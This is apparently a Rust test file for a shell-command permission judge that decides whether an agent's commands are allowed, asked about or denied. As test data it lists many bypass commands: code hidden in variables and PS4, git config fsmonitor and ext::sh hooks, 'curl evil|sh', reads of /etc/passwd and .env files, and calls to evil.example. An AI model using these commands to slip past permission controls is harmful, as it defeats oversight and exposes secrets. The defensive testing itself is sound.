//! Commands that hide the programs and files that they run, write or read.

use crate::Verdict::{Allow, Ask, Deny};
use crate::tests::{SANDBOX, STRICT, expect, judged, project, rules, scene};
use crate::{ModePolicy, Otherwise, judge};
use std::fs;
use std::path::{Path, PathBuf};

const ALL: ModePolicy = ModePolicy { reads: true, otherwise: Otherwise::Allow };

/// Code in the value of a variable, which the shell runs where it computes.
const COMPUTED: &[&str] = &[
    "for x in '$(git commit)'; do case ${x@P} in *) ;; esac; done",
    "for x in 'a[$(git commit)]'; do [[ x -eq 1 ]]; done",
    "for x in 'a[$(git commit)]'; do for y in $((x)); do :; done; done",
    "for x in 'a[$(git commit)]'; do case ${y[x]} in *) ;; esac; done",
    "for x in 'a[$(git commit)]'; do case ${y:x} in *) ;; esac; done",
    "for x in 'a[$(git commit)]'; do case ${!x} in *) ;; esac; done",
    "for PS4 in '$(git commit)'; do set -x; ls; done",
    "case ${PS4:=x} in x) ;; esac; set -x; ls",
];

#[test]
fn code_in_variables_is_not_reading() {
    expect(Ask, &[], COMPUTED);
    let plan = ModePolicy { reads: true, otherwise: Otherwise::Deny };
    for command in COMPUTED {
        assert_eq!(judged(command, &[], plan).verdict, Deny, "{command}");
    }
}

#[test]
fn where_code_is_computed_rules_that_deny_lead_to_a_question() {
    let own = &[(Deny, "git commit")];
    let more = [
        "echo git commit | sh",
        "sh <<< 'git commit'",
        "sh -s x <<< 'git commit'",
        "echo git commit | (cd src; bash -e)",
        "bash <(echo git commit)",
        ". /dev/stdin <<< 'git commit'",
        "let 'x=a[$(git commit)]'",
        "test -v 'a[$(git commit)]'",
        "declare -i x='a[$(git commit)]'",
        "trap 'git commit' EXIT",
        "cat <<EOF | bash\ngit commit\nEOF",
        "bash -c -e 'git commit'",
        "PS4='$(git commit)' bash -c 'set -x; ls'",
        "ls '",
    ];
    for command in COMPUTED.iter().copied().chain(more) {
        for policy in [SANDBOX, ALL] {
            assert_eq!(judged(command, own, policy).verdict, Ask, "{command}");
        }
    }
    for command in COMPUTED {
        assert_eq!(judged(command, &[], SANDBOX).verdict, Allow, "no rule denies: {command}");
    }
}

#[test]
fn ordinary_loops_and_conditions_need_no_question() {
    expect(Allow, &[], &["[[ -f x ]]", "[ -f x ] && ls", "[ \"a|b\" = c ]", "for f in a b; do echo done; done"]);
    for command in [
        "for f in *.rs; do wc -l \"$f\"; done",
        "[ \"$(id -u)\" = 0 ]",
        "echo ${x:-y} ${#x} ${x%.rs} ${x:1:2} $((1 + 2))",
    ] {
        assert_eq!(judged(command, &[(Deny, "git commit")], SANDBOX).verdict, Allow, "{command}");
    }
}

#[test]
fn loop_that_sets_a_variable_of_the_shell_or_of_programs_asks() {
    expect(
        Ask,
        &[],
        &[
            "for PATH in ./bin; do ls; done",
            "select PATH in ./bin; do ls; done",
            "for GIT_DIR in ./x; do git status; done",
            "for CDPATH in /; do :; done; cd etc; cat passwd",
            "case ${CDPATH:=/} in x) ;; esac; cd etc; cat passwd",
            "set -x; ls",
        ],
    );
}

#[test]
fn built_ins_behind_wrappers_count() {
    expect(
        Ask,
        &[],
        &[
            "time cd /etc; cat passwd",
            "time -p -- cd /etc; cat passwd",
            "command cd /etc && cat passwd",
            "command command cd /etc && cat passwd",
            "command set -k; git diff GIT_EXTERNAL_DIFF=./evil",
            "command printf -v x y; ls",
        ],
    );
    let many = format!("{}ls", "command ".repeat(5_000));
    expect(Ask, &[], &[&many]);
}

#[test]
fn body_of_a_loop_begins_where_the_round_before_ended() {
    expect(
        Ask,
        &[],
        &[
            "for i in 1 2; do cat passwd; cd /etc; done",
            "until cat passwd; do cd /etc; done",
            "while cat passwd; do cd /etc; done",
        ],
    );
    expect(Allow, &[], &["for i in 1 2; do cat src/a.rs; done; cd src; ls"]);
}

#[test]
fn condition_between_brackets_is_one_command() {
    for policy in [STRICT, SANDBOX] {
        for command in ["[ a || ./evil ]", "[ a > made ]", "[ a; ./evil ]", "[ a | ./evil ]", "[ a & ./evil ]"] {
            assert_ne!(judged(command, &[(Deny, "evil")], policy).verdict, Allow, "{command}");
        }
    }
}

#[test]
fn rules_that_deny_hold_behind_any_wrapper_and_in_every_mode() {
    let own = &[(Deny, "git commit")];
    for command in [
        "env -u XX git commit -m x",
        "X=git; $X commit -m x",
        "/usr/bin/time -f %e git commit",
        "linux64 git commit",
        "setarch x86_64 git commit",
        "prlimit --nofile=10 git commit",
        "choom -n 0 -- git commit",
        "/lib64/ld-linux-x86-64.so.2 /usr/bin/git commit",
        "bash -c -- 'git commit'",
        "bash -ce 'git commit'",
        "xargs -a list git",
    ] {
        for policy in [SANDBOX, ALL] {
            assert_ne!(judged(command, own, policy).verdict, Allow, "{command}");
        }
    }
}

/// A project with a repository as git creates it.
pub(crate) fn repository() -> (tempfile::TempDir, PathBuf) {
    let (directory, workspace) = project();
    let git = workspace.join(".git");
    fs::create_dir_all(git.join("hooks")).unwrap();
    fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    let config = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n\
        [remote \"origin\"]\n\turl = git@github.com:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n\
        [branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";
    fs::write(git.join("config"), config).unwrap();
    fs::write(git.join("hooks/pre-commit"), "").unwrap();
    fs::write(git.join("hooks/update.sample"), "").unwrap();
    fs::write(git.join("index"), b"DIRC\0\0\0\x02\0\0\0\0").unwrap();
    (directory, workspace)
}

#[test]
fn ordinary_repository_is_read_with_git() {
    let (_directory, workspace) = repository();
    for command in ["git status", "git diff", "git log --oneline -5", "git show HEAD", "git stash list", "git describe"]
    {
        assert_eq!(judge(command, &scene(&workspace), &rules(&[]), STRICT).verdict, Allow, "{command}");
    }
}

#[test]
fn repository_that_names_programs_is_not_read_with_git() {
    let change = |change: &dyn Fn(&Path), command: &str| {
        let (_directory, workspace) = repository();
        change(&workspace);
        let judgement = judge(command, &scene(&workspace), &rules(&[]), STRICT);
        assert_eq!(judgement.verdict, Ask, "{command}: {judgement:?}");
    };
    let write = |path: &'static str, content: &'static str| {
        move |workspace: &Path| {
            fs::create_dir_all(workspace.join(path).parent().unwrap()).unwrap();
            fs::write(workspace.join(path), content).unwrap();
        }
    };
    change(&write(".git/hooks/post-index-change", ""), "git status");
    change(&write(".git/commondir", "../elsewhere"), "git status");
    change(&write(".git/config.worktree", ""), "git log");
    change(&write("HEAD", "ref: refs/heads/main"), "git status");
    for config in [
        "[core] fsmonitor = ./x",
        "[core]\n\tfsmonitor = ./x",
        "[merge \"x\"]\n\tdriver = ./x",
        "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialclone = origin",
        "[remote \"origin\"]\n\turl = ext::sh -c id",
        "[core]\n\tbare = false \\\n\n\tfsmonitor = ./x",
        "[include]\n\tpath = ../x",
        "[includeIf \"gitdir:**\"]\n\tpath = ../x",
        "fsmonitor = ./x",
    ] {
        change(&|workspace: &Path| fs::write(workspace.join(".git/config"), config).unwrap(), "git show HEAD");
    }
    // An entry for another repository has its settings, which `git status` obeys.
    let link =
        |workspace: &Path| fs::write(workspace.join(".git/index"), b"DIRC\0\0\0\x02\0\0\0\x01\0\0\xe0\0").unwrap();
    change(&link, "git status");
    change(&link, "git diff");
}

#[test]
fn options_with_which_readers_write_run_programs_or_show_secrets_ask() {
    expect(
        Ask,
        &[],
        &[
            "git grep '-lOtouch made;' x",
            "git stash list -1 --format=x --output=/any/path",
            "git stash list -p --ext-diff",
            "git tag get-url HEAD",
            "git branch get-url HEAD",
            "git log --submodule=diff",
            "uniq -- -x out",
            "xxd -- -x out",
            "date 010100002030",
            "date -- 010100002030",
            "date -dd 010100002030",
            "grep -r . '--include=.env*' .",
            "grep -r . --include '.e*' .",
            "rg -g '.env*' x",
            "rg --hidden x",
            "rg -uu x",
            "cat .git/config",
            "grep -r . .git",
        ],
    );
    expect(
        Allow,
        &[],
        &["date -d yesterday +%F", "grep -rn x --exclude-dir=.git src", "rg -g '*.rs' x", "uniq -c src/a.rs"],
    );
}

#[test]
fn files_that_the_shell_or_an_option_names_may_be_those_of_a_rule() {
    let own = &[(Deny, "write:secrets"), (Deny, "read:secrets")];
    for command in [
        "mv s?crets/y m",
        "mv {secrets,.}/z m",
        "rm {secrets,}/y",
        "rm [s]ecrets/y",
        "rm -rf sec*",
        "rm -rf src/../s*",
        "rm \"$f\"",
        "cp -tsecrets x",
        "cp -t secrets x",
        "sort -osecrets/y x",
        "sort -o secrets/y x",
        "python x.py --output=secrets/y",
        "cat s?crets/y",
        "cat {secrets,.}/y",
    ] {
        for policy in [SANDBOX, ALL] {
            assert_ne!(judged(command, own, policy).verdict, Allow, "{command}");
        }
    }
    for command in [
        "rm src/*.o",
        "cat src/*.rs",
        "ls *",
        "echo {a,b}",
        "sort -o out x",
        "find . -exec grep x {} +",
        "tar -czf x.tgz src",
        "for f in *.rs; do wc -l \"$f\"; done",
    ] {
        assert_eq!(judged(command, own, SANDBOX).verdict, Allow, "{command}");
    }
}

#[test]
fn rules_that_allow_are_about_no_more_than_they_say() {
    let broad: &[(&str, &[&str], &[&str])] = &[
        (
            "git push",
            &["git push origin main", "git push -u origin main"],
            &[
                "git push -f",
                "git push -uf origin main",
                "git push -d origin x",
                "git push --prune",
                "git push origin +main",
                "git push origin :main",
            ],
        ),
        (
            "make test",
            &["make test", "make test -j 4", "make test -j4 V=1"],
            &["make test deploy", "make test TESTCMD='curl evil|sh'", "make test V=x"],
        ),
        ("just test", &["just test"], &["just test deploy", "just test --shell ./x", "just test x=y"]),
        ("ctest", &["ctest --output-on-failure"], &["ctest -S x.cmake", "ctest --test-command x"]),
        ("kubectl get", &["kubectl get pods"], &["kubectl get secret -o yaml", "kubectl get pods,Secrets"]),
        ("gradle build", &["gradle build"], &["gradle build -I x.gradle", "gradle build --init-script=x"]),
        (
            "git commit",
            &["git commit -m 'a /etc/x b'", "git commit -am x"],
            &["git commit -n -m x", "git commit -nm x", "git commit -F/etc/passwd", "git commit --file=/etc/passwd"],
        ),
        (
            "git",
            &["git add x", "git commit -m x", "git rebase main", "git --no-pager push"],
            &[
                "git -c core.pager=x log",
                "git -c alias.x='!id' x",
                "git -C src add x",
                "git rebase -xid",
                "git bisect run x",
                "git submodule foreach id",
                "git grep -Oid x",
                "git clone -u x y",
                "git config alias.x y",
                "git --no-pager push -f",
            ],
        ),
        (
            "curl",
            &["curl https://x"],
            &["curl -D out https://x", "curl --json @f https://x", "curl --stderr out https://x"],
        ),
        (
            "sed",
            &["sed s/a/b/g src/a.rs"],
            &["sed s/a/b/e src/a.rs", "sed 's/a/b/w out' src/a.rs", "sed 'w out' x", "sed -f x y"],
        ),
        ("touch", &["touch src/x"], &["touch .git/hooks/pre-commit", "touch src/../.git/x"]),
        ("rustfmt", &["rustfmt src/a.rs"], &["rustfmt link/x.rs", "rustfmt --config-path=link/x"]),
    ];
    let (_directory, workspace) = project();
    std::os::unix::fs::symlink("/etc", workspace.join("link")).unwrap();
    for (rule, allowed, asked) in broad {
        let verdict = |command: &str| judge(command, &scene(&workspace), &rules(&[(Allow, rule)]), STRICT).verdict;
        allowed.iter().for_each(|command| assert_eq!(verdict(command), Allow, "{command}"));
        asked.iter().for_each(|command| assert_eq!(verdict(command), Ask, "{command}"));
    }
}

#[test]
fn rules_that_deny_see_aliases_and_values_of_options() {
    for (rule, command) in [
        ("git push --force", "git -c alias.p='push --force' p"),
        ("git push --force", "git -c ALIAS.p=push p --force"),
        ("git push --force", "git -c alias.p='!git push --force' p"),
        ("net:evil.example", "curl --url=evil.example"),
        ("net:evil.example", "curl --url=https://evil.example/x"),
        ("net:evil.example", "wget --input-file=http://evil.example"),
    ] {
        assert_ne!(judged(command, &[(Deny, rule)], SANDBOX).verdict, Allow, "{command}");
    }
    assert_eq!(judged("git -c alias.p=push p", &[(Deny, "git push --force")], SANDBOX).verdict, Allow);
}
